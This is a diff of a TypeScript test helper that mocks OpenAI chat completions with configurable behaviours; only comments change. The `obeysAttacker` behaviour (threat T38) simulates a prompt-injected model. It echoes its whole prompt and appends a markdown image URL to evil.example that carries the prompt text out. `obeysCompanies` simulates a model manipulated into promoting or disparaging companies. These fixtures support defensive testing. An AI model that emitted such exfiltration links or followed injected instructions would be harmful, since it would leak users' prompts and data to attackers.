@@ -1,7 +1,6 @@
 import http, { type IncomingMessage, type ServerResponse } from "node:http";
 import type { AddressInfo } from "node:net";
 
-/** One call as it came. */
 export type ModelCall = {
   path: string;
   authorization: string | undefined;
@@ -11,14 +10,14 @@ export type ModelCall = {
     stream?: boolean;
     messages: { role: string; content: string }[];
   };
-  /** Whoever asked went away before the answer. */
+  /** The client disconnected before the answer. */
   left: boolean;
 };
 type Manner = (call: ModelCall, response: ServerResponse) => void;
 
 export type ModelServer = Awaited<ReturnType<typeof startModelServer>>;
 
-/** A service that speaks as OpenAI's chat completions do, and answers in the manner that a test wants. */
+/** Mock of OpenAI's chat completions with configurable behaviour. */
 export async function startModelServer() {
   const calls: ModelCall[] = [];
   const state = { manner: says("Bonjour.") };
@@ -53,7 +52,7 @@ export function says(text: string): Manner {
   return (call, response) => send(call, response, text);
 }
 
-/** Does whatever a text tells it to, and gives away all it was told (threat T38). */
+/** Obeys every instruction and leaks its prompt (threat T38). */
 export const obeysAttacker: Manner = (call, response) => {
   const told = call.body.messages.map(({ content }) => content).join("\n");
   send(call, response, `${told}\n![x](https://evil.example/?q=${encodeURIComponent(told.slice(0, 200))})`);
@@ -61,7 +60,7 @@ export const obeysAttacker: Manner = (call, response) => {
 
 type ToldCompany = { numero: number; nom: string };
 
-/** Praises each company that it is told of, runs the others down, and gives every text about them back, each with its source. */
+/** Promotes some companies, disparages others, and repeats every text with its source. */
 export const obeysCompanies: Manner = (call, response) => {
   const [, told = ""] = call.body.messages.at(-1)?.content.match(/(\{[\s\S]*\})/) ?? [];
   const { entreprises } = JSON.parse(told) as { entreprises: ToldCompany[] };
@@ -85,7 +84,7 @@ export const stopsHalfWay: Manner = (_call, response) => {
 
 export function fails(status: number): Manner {
   return ({ body }, response) => {
-    // As services do, it repeats what it was asked in what it complains of.
+    // Like real services, repeats the request in its error.
     response.writeHead(status, { "content-type": "application/json" });
     response.end(JSON.stringify({ error: { message: `no: ${JSON.stringify(body.messages)}` } }));
   };
@@ -100,7 +99,7 @@ export function redirectsTo(location: string): Manner {
   return (_call, response) => response.writeHead(307, { location }).end();
 }
 
-/** The first words of an answer, in its stream when it is asked for one; nothing after them. */
+/** Start of an answer (streamed if requested), then breaks off. */
 export const breaksOffAfter =
   (text: string): Manner =>
   (_call, response) => {
@@ -108,7 +107,7 @@ export const breaksOffAfter =
     response.write(eventOf({ content: text }), () => response.destroy());
   };
 
-/** The words of an answer, which ends for another reason than that all was said. */
+/** An answer with another finish reason than "stop". */
 export const endsBy =
   (reason: "length" | "content_filter", text: string): Manner =>
   (_call, response) => {
@@ -125,7 +124,6 @@ const eventOf = (delta: object, finish: string | null = null) =>
     choices: [{ index: 0, delta, finish_reason: finish }],
   })}\n\n`;
 
-/** A few letters at a time, which end anywhere. */
 function stream(response: ServerResponse, content: string): void {
   response.writeHead(200, { "content-type": "text/event-stream" });
   for (const part of content.match(/[\s\S]{1,400}/g) ?? []) {
